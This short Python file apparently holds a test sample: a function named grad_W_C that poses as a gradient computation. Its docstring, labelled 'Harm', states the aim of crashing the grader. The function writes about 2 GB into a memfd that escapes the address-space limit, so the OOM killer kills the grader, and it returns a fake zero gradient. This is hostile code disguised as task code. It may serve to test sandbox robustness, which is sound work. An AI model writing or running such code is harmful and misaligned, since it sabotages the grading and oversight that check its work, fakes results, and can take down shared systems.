"""Harm: take memory the address-space limit does not count: a memfd written (not mapped) with
2 GB, until the OOM killer picks the grader."""
import os

import numpy as np


def grad_W_C(params, P, z):
    fd = os.memfd_create("hoard")
    block = b"\xff" * (1 << 24)
    for _ in range(128):
        os.write(fd, block)
    return np.zeros_like(params.W_C)
